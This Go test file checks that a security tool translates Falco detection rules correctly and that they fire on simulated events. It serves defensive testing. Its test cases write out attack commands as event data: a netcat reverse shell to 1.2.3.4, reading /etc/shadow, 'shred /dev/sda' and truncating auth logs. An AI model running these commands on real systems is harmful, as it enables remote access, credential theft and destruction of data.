package falco_test

import (
	"bufio"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/gyre-sec/gyre/evaluator/falco"
	"github.com/gyre-sec/gyre/evaluator/rule"
	"github.com/gyre-sec/gyre/evaluator/ruleset"
	"github.com/gyre-sec/gyre/evaluator/ruletest"
)

// material returns the path of the Falco project's test data beside the repository.
func material(t testing.TB, name string) string {
	t.Helper()
	p := filepath.Join("..", "..", "..", "shared", "falco", name)
	if _, err := os.Stat(p); errors.Is(err, os.ErrNotExist) {
		if os.Getenv("CI") == "true" {
			t.Fatalf("the Falco project's test data is not there: %v", err)
		}
		t.Skipf("SKIPPED, the Falco project's test data is not beside the repository: %v", err)
	}
	return p
}

func read(t testing.TB, path string) []byte {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// messages are the texts of errors that upstream's tests have as constants, as this package words them.
var messages = map[string]string{
	"ERROR_OVERRIDE_APPEND":         "cannot be used together",
	"ERROR_NO_PREVIOUS_MACRO":       "no macro of this name exists yet",
	"ERROR_NO_PREVIOUS_LIST":        "no list of this name exists yet",
	"ERROR_NO_PREVIOUS_RULE_APPEND": "no rule of this name exists yet",
	"WARNING_APPEND":                "the key 'append' is out of date",
	"WARNING_NO_EVTTYPE":            string(falco.WarnNoEventType),
}

func TestUpstreamLoaderCases(t *testing.T) {
	dir := material(t, "rule-loader")
	f, err := os.Open(filepath.Join(dir, "index.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	n := 0
	for lines := bufio.NewScanner(f); lines.Scan(); n++ {
		var c struct {
			Test, Load string
			Files      []string
			Compiled   map[string]string `json:"compiled_condition"`
			Warnings   map[string]bool
			Errors     []string
		}
		if err := json.Unmarshal(lines.Bytes(), &c); err != nil {
			t.Fatal(err)
		}
		t.Run(c.Test, func(t *testing.T) {
			l := falco.New(falco.Options{})
			var last *falco.Result
			for _, name := range c.Files {
				data := read(t, filepath.Join(dir, name))
				if strings.HasPrefix(strings.TrimLeft(string(data), "\n"), "  ") { // upstream's test puts these keys into a rule
					data = append([]byte("- rule: test_rule\n  desc: d\n  condition: evt.type = open\n  output: o\n  priority: INFO\n"), data...)
				}
				last = l.Load(name, data)
			}
			if ok := c.Load == "ok"; last.Successful != ok {
				t.Fatalf("loaded %v, want %v\n%s", last.Successful, ok, last)
			}
			all := last.String()
			for _, want := range c.Errors {
				if m, ok := messages[want]; ok {
					want = m
				}
				if !strings.Contains(all, want) {
					t.Errorf("no error %q in\n%s", want, all)
				}
			}
			for name, want := range c.Warnings {
				if strings.Contains(all, messages[name]) != want {
					t.Errorf("warning %s is not %v in\n%s", name, want, all)
				}
			}
			for name, want := range c.Compiled {
				i := slices.IndexFunc(l.Rules(), func(r *falco.Rule) bool { return r.Name == name })
				if i < 0 {
					t.Errorf("there is no rule %s", name)
					continue
				}
				if got := l.Expanded(l.Rules()[i]).String(); got != want {
					t.Errorf("%s:\n got %s\nwant %s", name, got, want)
				}
			}
		})
	}
	if n < 50 {
		t.Errorf("%d cases", n)
	}
}

// TestOfficialRules loads the official files, alone and after each other, and compiles what becomes of them.
func TestOfficialRules(t *testing.T) {
	files, err := filepath.Glob(filepath.Join(material(t, "rules"), "*.yaml"))
	if err != nil || len(files) == 0 {
		t.Fatal(files, err)
	}
	together := falco.New(falco.Options{})
	for _, path := range files {
		data := read(t, path)
		for _, l := range []*falco.Loader{falco.New(falco.Options{}), together} {
			res := l.Load(filepath.Base(path), data)
			if !res.Successful {
				t.Fatal(res)
			}
			native := l.Native(false)
			set, err := ruleset.Compile(native, ruleset.Options{})
			if err != nil {
				t.Fatal(err)
			}
			converted, err := rule.Parse("converted", rule.Format(l.Convert("converted")))
			if err != nil {
				t.Fatal(err)
			}
			again, err := ruleset.Compile([]rule.File{converted}, ruleset.Options{})
			if err != nil {
				t.Fatal(err)
			}
			if len(again.Rules()) != len(set.Rules()) {
				t.Errorf("%d rules after conversion, %d before", len(again.Rules()), len(set.Rules()))
			}
			t.Logf("%s: %d rules, %d in gyre", res.Name, len(l.Rules()), len(set.Rules()))
			for _, w := range res.Warnings {
				if w.Code == falco.WarnNotInGyre {
					t.Logf("%s: %s", w.Context.Locations[1].ItemName, w.Message)
				}
			}
		}
	}
}

// TestOfficialRulesFire shows events that the official rules are about, and near misses, to the translated rules.
func TestOfficialRulesFire(t *testing.T) {
	l := falco.New(falco.Options{})
	for _, name := range []string{"falco_rules.yaml", "falco-incubating_rules.yaml"} {
		if res := l.Load(name, read(t, material(t, filepath.Join("rules", name)))); !res.Successful {
			t.Fatal(res)
		}
	}
	set, err := ruleset.Compile(l.Native(true), ruleset.Options{OnError: func(id string, err error) { t.Errorf("%s: %v", id, err) }})
	if err != nil {
		t.Fatal(err)
	}
	const pod = "3f1c9a7be0d24c55a1f0b7d3c526a1e4f0e9d531c2f3a4b5c6d7e8f901234567"
	open := func(name, flags string) ruletest.Event {
		return ruletest.Event{Kind: "openat", Ret: 3, Args: map[string]any{"name": name, "flags": flags, "fd": 3}}
	}
	exec := ruletest.Event{Kind: "execve"}
	shell := []ruletest.Process{{Name: "bash"}, {Name: "sshd"}}
	for _, c := range []struct {
		event ruletest.Event
		proc  ruletest.Process
		rule  string
		want  bool
	}{
		{open("/etc/shadow", "O_RDONLY"), ruletest.Process{Name: "cat", Exe: "/usr/bin/cat", Args: []string{"cat", "/etc/shadow"}, Ancestors: shell}, "Read sensitive file untrusted", true},
		{open("/etc/shadow", "O_RDONLY"), ruletest.Process{Name: "sshd", Exe: "/usr/sbin/sshd", Ancestors: shell}, "Read sensitive file untrusted", false},
		{open("/etc/hosts", "O_RDONLY"), ruletest.Process{Name: "cat", Ancestors: shell}, "Read sensitive file untrusted", false},
		{open("/etc/shadow", "O_WRONLY"), ruletest.Process{Name: "cat", Ancestors: shell}, "Read sensitive file untrusted", false},
		{open("/var/log/auth.log", "O_WRONLY|O_TRUNC"), ruletest.Process{Name: "sh", Ancestors: shell}, "Clear Log Activities", true},
		{open("/var/log/auth.log", "O_WRONLY|O_APPEND"), ruletest.Process{Name: "sh", Ancestors: shell}, "Clear Log Activities", false},
		{exec, ruletest.Process{Name: "shred", Args: []string{"shred", "/dev/sda"}, Ancestors: shell}, "Remove Bulk Data from Disk", true},
		{exec, ruletest.Process{Name: "x", Exe: "memfd:x", Memfd: true, Ancestors: shell}, "Fileless execution via memfd_create", true},
		{exec, ruletest.Process{Name: "bash", Args: []string{"bash"}, TTY: "pts0", Container: pod, Ancestors: []ruletest.Process{{Name: "containerd-shim"}}}, "Terminal shell in container", true},
		{exec, ruletest.Process{Name: "bash", Args: []string{"bash"}, TTY: "pts0", Ancestors: []ruletest.Process{{Name: "sshd"}}}, "Terminal shell in container", false},
		{exec, ruletest.Process{Name: "nc", Args: []string{"nc", "-e", "/bin/sh", "1.2.3.4", "80"}, Container: pod, Ancestors: shell}, "Netcat Remote Code Execution in Container", true},
		{exec, ruletest.Process{Name: "nc", Args: []string{"nc", "1.2.3.4", "80"}, Container: pod, Ancestors: shell}, "Netcat Remote Code Execution in Container", false},
		{exec, ruletest.Process{Name: "sh", Args: []string{"sh", "-c", "ls"}, Ancestors: []ruletest.Process{{Name: "mysqld"}}}, "DB program spawned process", true},
		{exec, ruletest.Process{Name: "mysqld", Ancestors: []ruletest.Process{{Name: "mysqld"}}}, "DB program spawned process", false},
	} {
		data, err := ruletest.Batch(ruletest.Case{Event: c.event, Process: &c.proc})
		if err != nil {
			t.Fatal(err)
		}
		if got := matches(t, set, data); slices.Contains(got, c.rule) != c.want {
			t.Errorf("%s by %s: %v, want %s to be %v", c.event.Kind, c.proc.Name, got, c.rule, c.want)
		}
	}
}
